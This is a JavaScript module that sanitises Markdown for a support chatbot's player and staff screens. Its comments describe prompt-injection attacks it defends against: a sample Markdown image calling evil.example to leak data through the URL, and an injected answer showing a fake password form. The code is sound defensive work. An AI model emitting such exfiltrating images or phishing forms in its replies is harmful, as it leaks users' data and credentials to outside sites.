/*
 * csbot's one way of showing Markdown, for the player's page and the staff dashboard
 * alike: the bot's answers and what agents write (a pasted list, a link, bold) render
 * the same on both screens. marked parses; DOMPurify keeps only safe HTML, so nobody's
 * text can run a script or an event handler; links open in a new tab without the opener.
 *
 * Nor can the text make the browser fetch from another site. An answer steered by a
 * prompt injection could hold `![x](https://evil.example/p.png?d=…)`: shown as an image,
 * every screen showing the chat (the player's, each watching agent's) would request
 * that URL, telling the other site who reads it and whatever the URL carries. So an
 * image from anywhere but csbot itself (or a data: URL) is shown as a link to it, named
 * by its alt text, and nothing else in the text may name a URL to fetch. The page's
 * Content-Security-Policy (csbot/csp.py) would refuse such a fetch too; this keeps the
 * text readable and the policy unbroken.
 *
 * No build step. Needs marked and DOMPurify from /static/vendor/; without them text
 * stays plain.
 */
(function () {
  "use strict";

  var LINK_REL = "noopener noreferrer nofollow";
  var PURIFY = {
    USE_PROFILES: { html: true },
    // CSS can name URLs (and the policy refuses inline styles); these attributes are URLs
    // that Markdown never writes. Nor does Markdown write a form: an answer steered by a
    // prompt injection could otherwise show, in the bot's own bubble, a box asking for the
    // player's password and a button to send it (GFM's task-list boxes go too: the items stay).
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option"],
    FORBID_ATTR: ["style", "srcset", "poster", "background"]
  };

  var able = !!(window.marked && typeof window.marked.parse === "function" &&
                window.DOMPurify && typeof window.DOMPurify.sanitize === "function");
  if (able) {
    window.DOMPurify.addHook("afterSanitizeAttributes", function (node) {
      if (node.tagName === "A" && node.hasAttribute("href")) {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", LINK_REL);
      }
    });
  }

  /** True when loading `url` asks only csbot itself (or nobody: a data: URL). */
  function fetchesHome(url) {
    try {
      var parsed = new URL(url, window.location.href);
      return parsed.protocol === "data:" || parsed.origin === window.location.origin;
    } catch (e) {
      return false;
    }
  }

  /** An image from elsewhere as a link to it (plain text inside a link), named by its alt. */
  function imageAsLink(img) {
    var src = img.getAttribute("src") || "";
    var label = img.getAttribute("alt") || src;
    if (!src || img.closest("a")) return document.createTextNode(label);
    var link = document.createElement("a");
    link.href = src;
    link.textContent = label;
    link.target = "_blank";
    link.rel = LINK_REL;
    return link;
  }

  /** Leaves nothing under `root` that would load from another origin once shown. */
  function keepFetchesHome(root) {
    Array.prototype.forEach.call(root.querySelectorAll("img"), function (img) {
      if (!fetchesHome(img.getAttribute("src") || "")) img.replaceWith(imageAsLink(img));
    });
    // Raw HTML's other fetching elements (<video>, <audio>, <source>, <input type=image>).
    Array.prototype.forEach.call(root.querySelectorAll("[src]"), function (el) {
      if (!fetchesHome(el.getAttribute("src"))) el.removeAttribute("src");
    });
  }

  /**
   * `text` with the Markdown it leaves open closed: a code block, inline code, bold.
   * An answer shows while it streams, and one stopped mid-way (a takeover, a close, an
   * upstream error) stays as it was cut: "Your account: **Account banned" would show its
   * asterisks for good. Balanced text comes back as it was.
   */
  function closeOpenMarks(text) {
    var fences = text.match(/^ {0,3}```/gm) || [];
    if (fences.length % 2) return text.replace(/\s+$/, "") + "\n```";  // inside code nothing else is markup
    var prose = text.replace(/^ {0,3}```[\s\S]*?^ {0,3}```/gm, "");
    var tail = "";
    if ((prose.match(/`/g) || []).length % 2) tail = "`";
    else if ((prose.replace(/`[^`]*`/g, "").match(/\*\*/g) || []).length % 2) tail = "**";
    // The mark must touch the last word to close: "**Account banned**", not "…banned\n**".
    return tail ? text.replace(/\s+$/, "") + tail : text;
  }

  /** Shows `text` in `el` as sanitised HTML; false when it could only show it as plain text. */
  function render(el, text) {
    if (!able) { el.textContent = text; return false; }
    var html;
    try {
      html = window.marked.parse(closeOpenMarks(text), { gfm: true, breaks: true, async: false });
    } catch (e) {
      el.textContent = text;
      return false;
    }
    // A <template>'s content is inert: its images load only once in the page, after
    // keepFetchesHome has taken the foreign ones out.
    var inert = document.createElement("template");
    inert.innerHTML = window.DOMPurify.sanitize(html, PURIFY);
    keepFetchesHome(inert.content);
    el.replaceChildren(inert.content);
    return true;
  }

  window.csbotMarkdown = { render: render, closeOpenMarks: closeOpenMarks };
})();
